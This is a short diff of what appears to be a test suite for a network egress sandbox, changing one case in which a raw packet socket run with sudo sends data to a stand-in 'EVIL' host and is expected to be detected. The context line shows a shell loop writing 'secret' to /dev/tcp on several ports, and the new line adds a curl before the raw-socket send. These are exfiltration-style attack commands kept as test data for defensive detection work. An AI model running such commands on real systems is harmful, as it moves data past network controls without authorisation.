@@ -110,7 +110,8 @@ for port in 22 8080 8443; do (echo secret > /dev/tcp/${ALLOWED.a}/$port) || true
     outcome: "detected",
     why: "A packet socket hands frames to the device below the rules. It takes root: with `sudo: disable` no step has it.",
     run: attack({
-      act: python(rawTcp(EVIL), "sudo"),
+      // The first request has the gateway's hardware address looked up.
+      act: `curl -s -m 3 http://${ALLOWED.name}/ || true\n${python(rawTcp(EVIL), "sudo")}`,
       harm: reachedEvil,
       sign: ({ report }) => report.detections.some(({ id }) => id === "raw-socket"),
     }),
